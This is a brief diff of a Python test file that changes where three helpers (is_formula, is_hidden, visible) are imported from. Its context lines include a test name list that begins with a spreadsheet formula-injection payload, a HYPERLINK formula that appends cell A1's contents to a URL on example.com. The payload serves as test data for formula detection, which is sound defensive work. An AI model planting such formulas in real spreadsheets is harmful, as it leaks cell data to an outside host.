@@ -9,8 +9,8 @@ from pathlib import Path
 import pytest
 
 import fedhist as library
-from fedhist.display.visible_text import is_formula, is_hidden, visible
 from tests.builders import Fedhist, document_in, rows_of, write_records
+from tests.support.api import is_formula, is_hidden, visible
 
 NAMES = [
     '=HYPERLINK("http://example.com/?x="&A1,"click")',
